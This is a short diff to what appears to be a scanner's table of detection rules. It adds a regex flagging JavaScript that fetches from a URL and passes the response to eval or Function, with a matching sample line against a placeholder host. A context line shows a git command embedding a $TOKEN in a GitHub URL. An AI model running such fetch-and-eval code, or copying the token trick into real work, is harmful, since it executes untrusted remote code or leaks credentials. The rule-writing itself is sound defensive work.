@@ -83,4 +83,11 @@ export const CARRYING_ROWS: readonly Row[] = [
       'git config --global url."https://$TOKEN@github.com/".insteadOf "https://github.com/"',
     ],
   },
+  {
+    // JavaScript: what an address answers, handed to what runs texts.
+    rule: FETCHED_CODE,
+    pattern: /\bfetch\s*\(\s*["'`]https?:[^\n]{0,200}\.then\s*\(\s*(?:eval|Function)\s*\)/,
+    fires: ["fetch('http://x.invalid').then(r=>r.text()).then(eval)"],
+    quiet: ["fetch('https://x.invalid').then(r => r.json()).then(show)"],
+  },
 ];
